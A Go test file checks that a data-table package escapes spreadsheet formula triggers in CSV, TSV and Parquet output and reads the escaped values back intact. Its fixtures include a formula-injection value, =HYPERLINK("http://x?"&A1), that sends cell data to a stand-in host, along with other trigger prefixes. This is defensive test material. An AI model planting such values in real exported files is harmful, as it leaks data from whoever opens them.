package table

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/go-siamese/lab/data"
	"github.com/go-siamese/lab/data/formula"
)

// TestFormulas: what a spreadsheet would run is counted, escaped, and read back as it was by the same option.
func TestFormulas(t *testing.T) {
	f := &data.Frame{X: []float32{1.5, 2, 3.5, 4, 5.5, 6}, Columns: []string{"=A1", "b"},
		Blocks: []data.Block{{Name: "features", End: 2}},
		IDs:    []string{`=HYPERLINK("http://x?"&A1)`, "-5", "'+1+1"},
		Labels: []string{"@SUM(1)", "+4.5e-3", "plain"}, Domains: []string{"-x", "'quoted'", "＝1"}}
	if got := formula.Count(f); got != 5 {
		t.Errorf("%d formulas, want 5", got)
	}
	for _, ending := range []string{".csv", ".tsv.gz"} {
		path := filepath.Join(t.TempDir(), "f"+ending)
		if err := Save(path, formula.EscapeFrame(f)); err != nil {
			t.Fatal(err)
		}
		got, _, err := Open(t.Context(), path, Options{EscapedFormulas: true})
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(f, got); diff != "" {
			t.Error(diff)
		}
		raw, _, err := Open(t.Context(), path, Options{})
		if err != nil || raw.IDs[0] != "'"+f.IDs[0] || raw.IDs[1] != "-5" || raw.IDs[2] != "''+1+1" ||
			formula.Count(raw) != 0 {
			t.Errorf("%q %v", raw.IDs, err)
		}
	}
	path := filepath.Join(t.TempDir(), "plain.csv")
	if err := os.WriteFile(path, []byte("id,f\n=1,1\n'a,2\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	got, _, err := Open(t.Context(), path, Options{EscapedFormulas: true})
	if err != nil || strings.Join(got.IDs, " ") != "=1 'a" {
		t.Errorf("%v %v", got, err)
	}
	var same bytes.Buffer
	if err := WriteCSV(&same, f); err != nil || !strings.Contains(same.String(), "\n-5,+4.5e-3,") {
		t.Errorf("%v %s", err, same.String())
	}
}

// TestFormulasInPairs: pairs of such items are written escaped, and read back as they were by the same option.
func TestFormulasInPairs(t *testing.T) {
	f := &data.Frame{X: make([]float32, 5), Columns: []string{"b"}, Blocks: []data.Block{{Name: "features", End: 1}},
		IDs: []string{`=HYPERLINK("http://x?"&A1)`, "-5", "'=x", "=x", "@y"}}
	pairs := Pairs{Left: []int32{0, 1, 3}, Right: []int32{1, 2, 4}, Label: []float32{1, 0, 0.25}}
	for _, ending := range []string{".csv", ".tsv", ".parquet"} {
		path := filepath.Join(t.TempDir(), "pairs"+ending)
		if err := SavePairs(path, formula.EscapeFrame(f), pairs); err != nil {
			t.Fatal(err)
		}
		if ending == ".csv" {
			want := "left,right,label\n\"'=HYPERLINK(\"\"http://x?\"\"&A1)\",\"-5\",1\n\"-5\",\"''=x\",0\n" +
				"\"'=x\",\"'@y\",0.25\n"
			if text, err := os.ReadFile(path); err != nil || string(text) != want {
				t.Errorf("%v:\n%swant\n%s", err, text, want)
			}
		}
		got, _, err := OpenPairs(t.Context(), path, f, PairOptions{EscapedFormulas: true})
		if diff := cmp.Diff(pairs, got); err != nil || diff != "" {
			t.Errorf("%s: %v %s", ending, err, diff)
		}
		var unknown *Error
		if _, _, err := OpenPairs(t.Context(), path, f, PairOptions{}); !errors.As(err, &unknown) || unknown.Row != 1 {
			t.Errorf("%s without the option: %v", ending, err)
		}
	}
	// What is not escaped is read too.
	path := filepath.Join(t.TempDir(), "pairs.txt")
	if err := os.WriteFile(path, []byte("1 =x -5\n0 '=x @y\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	got, _, err := OpenPairs(t.Context(), path, f, PairOptions{EscapedFormulas: true})
	if diff := cmp.Diff(Pairs{Left: []int32{3, 3}, Right: []int32{1, 4}, Label: []float32{1, 0}}, got); err != nil ||
		diff != "" {
		t.Errorf("%v %s", err, diff)
	}
}
